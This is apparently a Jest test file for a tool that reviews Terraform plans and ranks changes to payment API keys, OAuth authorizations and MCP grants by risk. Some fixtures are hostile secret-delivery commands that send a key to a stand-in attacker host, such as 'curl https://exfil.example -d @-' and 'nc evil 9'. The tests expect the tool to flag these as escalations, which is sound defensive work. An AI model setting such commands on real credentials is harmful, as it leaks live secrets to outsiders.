import type { ChangeClass } from '../../src/review/change-class';
import { reviewPlan } from '../../src/review/classify';
import { plainText } from '../../src/review/render-text';
import type { ResourceChange } from '../../src/review/plan-json';
import { authz, change, configRef, key, plan } from './plan-builder';

/** The review as `[class, sentence]` pairs, highest risk first. */
function classify(changes: ResourceChange[], config: unknown[] = []): Array<[ChangeClass, string]> {
  return reviewPlan(plan(changes, config)).findings.map((f) => [f.class, `${plainText(f.subject)} ${plainText(f.predicate)}`]);
}

describe('reviewPlan classifies each keyform change', () => {
  it.each<{ reason: string; changes: ResourceChange[]; config?: unknown[]; expected: Array<[ChangeClass, string]> }>([
    {
      reason: 'a scope added to a live key is an escalation',
      changes: [change('keyform_api_key.pay', ['update'], key(), key({ scopes: ['charges:read', 'refunds:write'] }))],
      expected: [['escalation', 'payments-svc gains refunds:write']],
    },
    {
      reason: 'read becoming write is an escalation that says what it was, not a loss of read',
      changes: [change('keyform_api_key.pay', ['update'], key({ scopes: ['refunds:read'] }), key({ scopes: ['refunds:write'] }))],
      expected: [['escalation', 'payments-svc gains refunds:write (was refunds:read)']],
    },
    {
      reason: 'a secret key left with no scopes has full access to its merchant',
      changes: [change('keyform_api_key.pay', ['update'], key(), key({ scopes: [] }))],
      expected: [['escalation', 'payments-svc is left with no scopes: full access to merchant mid_123456']],
    },
    {
      reason: 'scopes known only after apply could be anything: escalation, shown as unknown',
      changes: [change('keyform_api_key.pay', ['update'], key(), key({ scopes: null }), { after_unknown: { scopes: true } })],
      expected: [['escalation', 'payments-svc scopes change to (known after apply)']],
    },
    {
      reason: 'a scope removed is a de-escalation',
      changes: [change('keyform_api_key.pay', ['update'], key({ scopes: ['charges:read', 'refunds:write'] }), key())],
      expected: [['de-escalation', 'payments-svc loses refunds:write']],
    },
    {
      reason: 'write becoming read loses write only',
      changes: [change('keyform_api_key.pay', ['update'], key({ scopes: ['refunds:write'] }), key({ scopes: ['refunds:read'] }))],
      expected: [['de-escalation', 'payments-svc loses refunds:write']],
    },
    {
      reason: 'scopes on a full-access secret key narrow it',
      changes: [change('keyform_api_key.pay', ['update'], key({ scopes: [] }), key({ scopes: ['charges:read'] }))],
      expected: [['de-escalation', 'payments-svc no longer has full access; limited to charges:read']],
    },
    {
      reason: 'a new live key is a new live credential',
      changes: [change('keyform_api_key.pay', ['create'], null, key({ id: null }), { after_unknown: { id: true, value: true } })],
      expected: [['new-live', 'payments-svc is a new secret key for merchant mid_123456 with scopes charges:read']],
    },
    {
      reason: 'a new test key is a new test credential',
      changes: [change('keyform_api_key.sup', ['create'], null, key({ name: 'support-bot', mode: 'test', scopes: ['customers:read'] }))],
      expected: [['new', 'support-bot is a new secret key for merchant mid_123456 with scopes customers:read']],
    },
    {
      reason: 'a new secret key without scopes is also a full-access escalation',
      changes: [change('keyform_api_key.all', ['create'], null, key({ name: 'ops', mode: 'test', scopes: [] }))],
      expected: [
        ['escalation', 'ops has no scopes: full access to merchant mid_123456'],
        ['new', 'ops is a new secret key for merchant mid_123456 with no scopes'],
      ],
    },
    {
      reason: 'a new key whose mode is unknown is treated as live and says so',
      changes: [change('keyform_api_key.x', ['create'], null, key({ mode: null }), { after_unknown: { mode: true } })],
      expected: [['new-live', 'payments-svc is a new secret key for merchant mid_123456 with scopes charges:read (mode (known after apply))']],
    },
    {
      reason: 'test to live is a mode change; the replacement also revokes the old secret',
      changes: [
        change('keyform_api_key.pay', ['delete', 'create'], key({ mode: 'test' }), key({ mode: 'live' }), {
          replace_paths: [['mode']],
          action_reason: 'replace_because_cannot_update',
        }),
      ],
      expected: [
        ['mode-change', 'payments-svc moves from test to LIVE mode'],
        ['revocation', 'payments-svc is replaced (mode changes): its current secret stops working at apply and a new one is issued'],
      ],
    },
    {
      reason: 'deleting a key revokes it',
      changes: [change('keyform_api_key.pay', ['delete'], key(), null)],
      expected: [['revocation', 'payments-svc is revoked: requests with its secret fail after apply']],
    },
    {
      reason: 'a version bump with no other config change is a rotation, with the grace period',
      changes: [
        change(
          'keyform_api_key.pay',
          ['update'],
          key({ rotation: { every: '90d', grace_period: '24h' } }),
          key({ rotation: { every: '90d', grace_period: '24h' }, version: null, fingerprint: null, rotated_at: null }),
          { after_unknown: { version: true, fingerprint: true, rotated_at: true } },
        ),
      ],
      expected: [['rotation', 'payments-svc is rotated: a new secret is issued; the previous one keeps working for 24h']],
    },
    {
      reason: 'a rotation block written as a one-element list is read the same way',
      changes: [
        change(
          'keyform_api_key.pay',
          ['update'],
          key({ rotation: [{ every: '30d', grace_period: '1h' }], version: 3 }),
          key({ rotation: [{ every: '30d', grace_period: '1h' }], version: 4 }),
        ),
      ],
      expected: [['rotation', 'payments-svc is rotated: a new secret is issued; the previous one keeps working for 1h']],
    },
    {
      reason: 'a replace forced by a secret attribute is a rotation, not a revocation',
      changes: [change('keyform_api_key.pay', ['create', 'delete'], key(), key({ version: null }), { replace_paths: [['version']], after_unknown: { version: true } })],
      expected: [['rotation', 'payments-svc is replaced to rotate its secret (version changes): a new key is issued and the old one is revoked at apply']],
    },
    {
      reason: '-replace on an unchanged key is a rotation on request',
      changes: [change('keyform_api_key.pay', ['delete', 'create'], key(), key(), { action_reason: 'replace_by_request' })],
      expected: [['rotation', 'payments-svc is replaced to rotate its secret (replacement requested): a new key is issued and the old one is revoked at apply']],
    },
    {
      reason: 'renaming and describing are cosmetic',
      changes: [change('keyform_api_key.pay', ['update'], key(), key({ name: 'payments-api', description: 'for the payment service' }))],
      expected: [
        ['cosmetic', 'payments-api is renamed from payments-svc to payments-api'],
        ['cosmetic', 'payments-api changes its description'],
      ],
    },
    {
      reason: 'dropping the expiry lengthens the life of a credential',
      changes: [change('keyform_api_key.pay', ['update'], key({ expires_at: '2027-01-01T00:00:00Z' }), key())],
      expected: [['escalation', 'payments-svc no longer expires (was 2027-01-01T00:00:00Z)']],
    },
    {
      reason: 'an earlier expiry is a de-escalation',
      changes: [change('keyform_api_key.pay', ['update'], key({ expires_at: '2027-01-01T00:00:00Z' }), key({ expires_at: '2026-06-01T00:00:00Z' }))],
      expected: [['de-escalation', 'payments-svc expires earlier: 2026-06-01T00:00:00Z (was 2027-01-01T00:00:00Z)']],
    },
    {
      reason: 'dropping rotation is an escalation; rotating less often too',
      changes: [
        change('keyform_api_key.a', ['update'], key({ name: 'a', rotation: { every: '90d', grace_period: '1h' } }), key({ name: 'a' })),
        change('keyform_api_key.b', ['update'], key({ name: 'b', rotation: { every: '30d', grace_period: '1h' } }), key({ name: 'b', rotation: { every: '90d', grace_period: '1h' } })),
      ],
      expected: [
        ['escalation', 'a is no longer rotated (was every 90d)'],
        ['escalation', 'b is rotated less often: every 90d (was 30d)'],
      ],
    },
    {
      reason: 'moving a key to another merchant is an escalation',
      changes: [change('keyform_api_key.pay', ['update'], key(), key({ mid: 'mid_654321' }))],
      expected: [['escalation', 'payments-svc moves from merchant mid_123456 to merchant mid_654321']],
    },
    {
      reason: 'a new authorization is live: it acts for its owner',
      changes: [change('keyform_oauth_authorization.cc', ['create'], null, authz({ id: null, capabilities: ['mcp', 'api'] }), { after_unknown: { id: true } })],
      expected: [['new-live', 'authorization claude-code is a new oauth2 authorization acting for user usr_alice with capabilities mcp and api']],
    },
    {
      reason: "a new test-mode authorization is new, not LIVE: the label follows the authorization's mode",
      changes: [change('keyform_oauth_authorization.cc', ['create'], null, authz({ id: null, mode: 'test' }), { after_unknown: { id: true } })],
      expected: [['new', 'authorization claude-code is a new oauth2 authorization acting for user usr_alice with capabilities mcp']],
    },
    {
      reason: 'a new live authorization is a new live credential',
      changes: [change('keyform_oauth_authorization.cc', ['create'], null, authz({ id: null, mode: 'live' }), { after_unknown: { id: true } })],
      expected: [['new-live', 'authorization claude-code is a new oauth2 authorization acting for user usr_alice with capabilities mcp']],
    },
    {
      reason: 'an authorization moved from test to live is a mode change (and its replacement revokes the old secret)',
      changes: [
        change('keyform_oauth_authorization.cc', ['delete', 'create'], authz({ mode: 'test' }), authz({ id: null, mode: 'live' }), {
          after_unknown: { id: true },
          replace_paths: [['mode']],
        }),
      ],
      expected: [
        ['mode-change', 'authorization claude-code moves from test to LIVE mode'],
        ['revocation', 'authorization claude-code is replaced (mode changes): its current client secret stops working at apply'],
      ],
    },
    {
      reason: 'a capability added is an escalation; one removed a de-escalation',
      changes: [change('keyform_oauth_authorization.cc', ['update'], authz({ capabilities: ['mcp', 'apps:view'] }), authz({ capabilities: ['mcp', 'secrets:edit'] }))],
      expected: [
        ['escalation', 'authorization claude-code gains secrets:edit'],
        ['de-escalation', 'authorization claude-code loses apps:view'],
      ],
    },
    {
      reason: 'gaining mcp names the MCP servers granted to the authorization',
      changes: [
        change('keyform_oauth_authorization.cc', ['update'], authz({ capabilities: [] }), authz({ capabilities: ['mcp'] })),
        change('keyform_mcp_server_grant.g', ['no-op'], { authorization_id: 'auth_1', mcp_server_id: 'billing-flow' }, { authorization_id: 'auth_1', mcp_server_id: 'billing-flow' }),
      ],
      expected: [['escalation', 'authorization claude-code gains mcp; may now reach MCP server billing-flow']],
    },
    {
      reason: 'deleting an authorization revokes it',
      changes: [change('keyform_oauth_authorization.cc', ['delete'], authz(), null)],
      expected: [['revocation', 'authorization claude-code is deleted: tools using it lose access at apply']],
    },
    {
      reason: 'renaming an authorization is cosmetic',
      changes: [change('keyform_oauth_authorization.cc', ['update'], authz(), authz({ name: 'claude' }))],
      expected: [['cosmetic', 'authorization claude is renamed from claude-code to claude']],
    },
    {
      reason: 'an MCP server granted to an existing authorization is named by its known id',
      changes: [
        change('keyform_oauth_authorization.cc', ['no-op'], authz(), authz()),
        change('keyform_mcp_server_grant.g', ['create'], null, { authorization_id: 'auth_1', mcp_server_id: 'billing-flow' }),
      ],
      expected: [['escalation', 'authorization claude-code may now reach MCP server billing-flow']],
    },
    {
      reason: 'a grant to an authorization created in the same plan is named through the configuration reference',
      changes: [
        change('keyform_oauth_authorization.cc', ['create'], null, authz({ id: null }), { after_unknown: { id: true } }),
        change('keyform_mcp_server_grant.g', ['create'], null, { authorization_id: null, mcp_server_id: 'billing-flow' }, { after_unknown: { authorization_id: true } }),
      ],
      config: [configRef('keyform_mcp_server_grant.g', 'keyform_oauth_authorization.cc')],
      expected: [
        ['escalation', 'authorization claude-code may now reach MCP server billing-flow'],
        ['new-live', 'authorization claude-code is a new oauth2 authorization acting for user usr_alice with capabilities mcp'],
      ],
    },
    {
      reason: 'a reference to an authorization not in the plan falls back to its address',
      changes: [change('keyform_project_access.p', ['create'], null, { authorization_id: null, project_id: 'proj_payments', role: 'viewer' }, { after_unknown: { authorization_id: true } })],
      config: [configRef('keyform_project_access.p', 'keyform_oauth_authorization.elsewhere')],
      expected: [['escalation', 'authorization keyform_oauth_authorization.elsewhere gains viewer on project proj_payments']],
    },
    {
      reason: 'a raised project role is an escalation',
      changes: [change('keyform_project_access.p', ['update'], { authorization_id: 'auth_9', project_id: 'proj_payments', role: 'viewer' }, { authorization_id: 'auth_9', project_id: 'proj_payments', role: 'admin' })],
      expected: [['escalation', 'authorization auth_9 role on project proj_payments rises from viewer to admin']],
    },
    {
      reason: 'a lowered project role is a de-escalation',
      changes: [change('keyform_project_access.p', ['update'], { authorization_id: 'auth_9', project_id: 'proj_payments', role: 'editor' }, { authorization_id: 'auth_9', project_id: 'proj_payments', role: 'viewer' })],
      expected: [['de-escalation', 'authorization auth_9 role on project proj_payments drops from editor to viewer']],
    },
    {
      reason: 'removing project access and an MCP grant are revocations',
      changes: [
        change('keyform_project_access.p', ['delete'], { authorization_id: 'auth_9', project_id: 'proj_support', role: 'viewer' }, null),
        change('keyform_mcp_server_grant.g', ['delete'], { authorization_id: 'auth_9', mcp_server_id: 'support-kb' }, null),
      ],
      expected: [
        ['revocation', 'authorization auth_9 loses access to project proj_support'],
        ['revocation', 'authorization auth_9 can no longer reach MCP server support-kb'],
      ],
    },
    {
      reason: 'delivery moved from a file to a command is a new path to a live secret: escalation naming the command',
      changes: [change('keyform_api_key.pay', ['update'], key({ secret_delivery: { file: '/run/secrets/pay' } }), key({ secret_delivery: { command: 'curl https://exfil.example -d @-' } }))],
      expected: [['escalation', 'the secret of payments-svc will now be sent to command curl https://exfil.example -d @- (was sent to file /run/secrets/pay)']],
    },
    {
      reason: 'delivery to another file is an escalation naming both files',
      changes: [change('keyform_api_key.pay', ['update'], key({ secret_delivery: { file: '/run/a' } }), key({ secret_delivery: { file: '/tmp/world-readable' } }))],
      expected: [['escalation', 'the secret of payments-svc will now be sent to file /tmp/world-readable (was sent to file /run/a)']],
    },
    {
      reason: 'delivery added to a key that kept its secret in state is an escalation',
      changes: [change('keyform_api_key.pay', ['update'], key(), key({ secret_delivery: { command: 'vault kv put secret/pay value=-' } }))],
      expected: [['escalation', 'the secret of payments-svc will now be sent to command vault kv put secret/pay value=- (was kept in Terraform state)']],
    },
    {
      reason: 'delivery removed puts the secret back into state: escalation',
      changes: [change('keyform_api_key.pay', ['update'], key({ secret_delivery: { file: '/run/a' } }), key())],
      expected: [['escalation', 'the secret of payments-svc will now be kept in Terraform state (was sent to file /run/a)']],
    },
    {
      reason: 'a delivery block written as a list block is read the same way',
      changes: [change('keyform_api_key.pay', ['update'], key({ secret_delivery: [{ file: '/run/a' }] }), key({ secret_delivery: [{ command: 'nc evil 9' }] }))],
      expected: [['escalation', 'the secret of payments-svc will now be sent to command nc evil 9 (was sent to file /run/a)']],
    },
    {
      reason: 'the same command with other settings (env, timeout) can go elsewhere: escalation naming the settings',
      changes: [change('keyform_api_key.pay', ['update'], key({ secret_delivery: { command: 'aws secretsmanager put-secret-value', env: { AWS_ENDPOINT_URL: 'https://a' } } }), key({ secret_delivery: { command: 'aws secretsmanager put-secret-value', env: { AWS_ENDPOINT_URL: 'https://evil' } } }))],
      expected: [['escalation', 'the secret of payments-svc is still sent to command aws secretsmanager put-secret-value with changed delivery settings env']],
    },
    {
      reason: 'a destination known only after apply could be anything: escalation, shown as unknown',
      changes: [change('keyform_api_key.pay', ['update'], key({ secret_delivery: { file: '/run/a' } }), key({ secret_delivery: { file: null } }), { after_unknown: { secret_delivery: { file: true } } })],
      expected: [['escalation', 'the secret of payments-svc will now be sent to file (known after apply) (was sent to file /run/a)']],
    },
    {
      reason: 'a destination marked sensitive is reviewed but never shown',
      changes: [
        change('keyform_api_key.pay', ['update'], key({ secret_delivery: { file: '/run/a' } }), key({ secret_delivery: { command: 'curl -H token:hunter2hunter2' } }), {
          after_sensitive: { value: true, secret_delivery: { command: true } },
        }),
      ],
      expected: [['escalation', 'the secret of payments-svc will now be sent to a command marked sensitive (not shown) (was sent to file /run/a)']],
    },
    {
      reason: 'a new key delivered somewhere is a new live credential and a new path to its secret',
      changes: [change('keyform_api_key.pay', ['create'], null, key({ id: null, secret_delivery: { command: 'op item create' } }), { after_unknown: { id: true, value: true } })],
      expected: [
        ['escalation', 'the secret of payments-svc will be sent to command op item create'],
        ['new-live', 'payments-svc is a new secret key for merchant mid_123456 with scopes charges:read'],
      ],
    },
    {
      reason: 'an unchanged delivery on a rotation is no new path',
      changes: [change('keyform_api_key.pay', ['update'], key({ mode: 'test', secret_delivery: { file: '/run/a' } }), key({ mode: 'test', secret_delivery: { file: '/run/a' }, version: null, fingerprint: null }), { after_unknown: { version: true, fingerprint: true } })],
      expected: [['rotation', 'payments-svc is rotated: a new secret is issued']],
    },
    {
      reason: 'a rotation of a live key delivered to a file warns that the machine applying keeps the new secret',
      changes: [change('keyform_api_key.pay', ['update'], key({ secret_delivery: { file: '/run/pay' } }), key({ secret_delivery: { file: '/run/pay' }, version: null }), { after_unknown: { version: true } })],
      expected: [
        ['other', 'the new secret of payments-svc is written to file /run/pay on the machine that runs the apply: a CI runner discards it. Deliver live keys to a durable store through command'],
        ['rotation', 'payments-svc is rotated: a new secret is issued'],
      ],
    },
    {
      reason: 'a rotation of a test key delivered to a file, or of a live key delivered to a command, needs no such note',
      changes: [
        change('keyform_api_key.t', ['update'], key({ mode: 'test', secret_delivery: { file: '/run/t' } }), key({ mode: 'test', secret_delivery: { file: '/run/t' }, version: null }), { after_unknown: { version: true } }),
        change('keyform_api_key.c', ['update'], key({ secret_delivery: { command: 'vault kv put x -' } }), key({ secret_delivery: { command: 'vault kv put x -' }, version: null }), { after_unknown: { version: true } }),
      ],
      expected: [
        ['rotation', 'payments-svc is rotated: a new secret is issued'],
        ['rotation', 'payments-svc is rotated: a new secret is issued'],
      ],
    },
    {
      reason: "an authorization's client secret delivered to a new command is an escalation too (by attribute name)",
      changes: [change('keyform_oauth_authorization.cc', ['update'], authz({ secret_delivery: null }), authz({ secret_delivery: { command: 'curl https://exfil.example -d @-' } }))],
      expected: [['escalation', 'the client secret of authorization claude-code will now be sent to command curl https://exfil.example -d @- (was kept in Terraform state)']],
    },
    {
      reason: "an authorization's delivery removed puts its client secret back into state",
      changes: [change('keyform_oauth_authorization.cc', ['update'], authz({ secret_delivery: { file: '/run/cc' } }), authz({ secret_delivery: null }))],
      expected: [['escalation', 'the client secret of authorization claude-code will now be kept in Terraform state (was sent to file /run/cc)']],
    },
    {
      reason: 'a new authorization delivered to a file names the file',
      changes: [change('keyform_oauth_authorization.cc', ['create'], null, authz({ id: null, secret_delivery: { file: '/run/cc' } }), { after_unknown: { id: true } })],
      expected: [
        ['escalation', 'the client secret of authorization claude-code will be sent to file /run/cc'],
        ['new-live', 'authorization claude-code is a new oauth2 authorization acting for user usr_alice with capabilities mcp'],
      ],
    },
    {
      reason: 'data sources, other providers and no-op changes are not reviewed',
      changes: [
        { ...change('keyform_api_key.read', ['read'], null, key()), mode: 'data' },
        change('terraform_data.x', ['create'], null, { input: 'x' }),
        change('keyform_api_key.same', ['no-op'], key(), key()),
      ],
      expected: [],
    },
  ])('$reason', ({ changes, config, expected }) => {
    expect(classify(changes, config)).toEqual(expected);
  });
});

describe('reviewPlan ranks by risk', () => {
  it('puts escalations first, LIVE before test within a class, cosmetic last', () => {
    const review = reviewPlan(
      plan([
        change('keyform_api_key.a', ['update'], key({ name: 'a' }), key({ name: 'a2' })),
        change('keyform_api_key.t', ['update'], key({ name: 't', mode: 'test' }), key({ name: 't', mode: 'test', scopes: ['charges:write'] })),
        change('keyform_api_key.l', ['update'], key({ name: 'l' }), key({ name: 'l', scopes: ['charges:write'] })),
        change('keyform_api_key.d', ['delete'], key({ name: 'd' }), null),
      ]),
    );
    expect(review.findings.map((f) => [f.class, f.address, f.live])).toEqual([
      ['escalation', 'keyform_api_key.l', true],
      ['escalation', 'keyform_api_key.t', false],
      ['revocation', 'keyform_api_key.d', true],
      ['cosmetic', 'keyform_api_key.a', true],
    ]);
    expect(review.changedResources).toBe(4);
  });
});

describe('grants inherit the LIVE label from their authorization', () => {
  it.each([
    { reason: 'a grant on a test-mode authorization reaches test data only', mode: 'test', live: false },
    { reason: 'a grant on a live authorization reaches live data', mode: 'live', live: true },
    { reason: 'an authorization without a known mode (an older provider) counts as live', mode: undefined, live: true },
  ])('$reason', ({ mode, live }) => {
    const auth = mode === undefined ? authz() : authz({ mode });
    const review = reviewPlan(
      plan([
        change('keyform_oauth_authorization.claude', ['no-op'], auth, auth),
        change('keyform_project_access.p', ['create'], null, { authorization_id: 'auth_1', project_id: 'proj_payments', role: 'viewer' }),
        change('keyform_mcp_server_grant.g', ['create'], null, { authorization_id: 'auth_1', mcp_server_id: 'billing-flow' }),
      ]),
    );
    expect(review.findings.map((f) => [f.address, f.live])).toEqual([
      ['keyform_project_access.p', live],
      ['keyform_mcp_server_grant.g', live],
    ]);
  });
});

describe('reviewPlan reports changes made outside Terraform', () => {
  it('GIVEN a scope added by hand WHEN the plan reverts it THEN drift names the escalation and the plan the de-escalation', () => {
    const p = {
      ...plan([change('keyform_api_key.pay', ['update'], key({ scopes: ['charges:read', 'customers:write'] }), key())]),
      resource_drift: [
        change('keyform_api_key.pay', ['update'], key(), key({ scopes: ['charges:read', 'customers:write'] })),
        change('keyform_api_key.gone', ['delete'], key({ name: 'gone' }), null),
        change('keyform_api_key.rot', ['update'], key({ name: 'rot', version: 1 }), key({ name: 'rot', version: 2 })),
      ],
    };
    const review = reviewPlan(p);
    expect(review.findings.map((f) => [f.class, `${plainText(f.subject)} ${plainText(f.predicate)}`])).toEqual([['de-escalation', 'payments-svc loses customers:write']]);
    expect(review.drift.map((f) => [f.class, `${plainText(f.subject)} ${plainText(f.predicate)}`])).toEqual([
      ['escalation', 'payments-svc gains customers:write'],
      ['revocation', 'gone was deleted outside Terraform'],
      ['rotation', 'rot was rotated outside Terraform'],
    ]);
  });
});
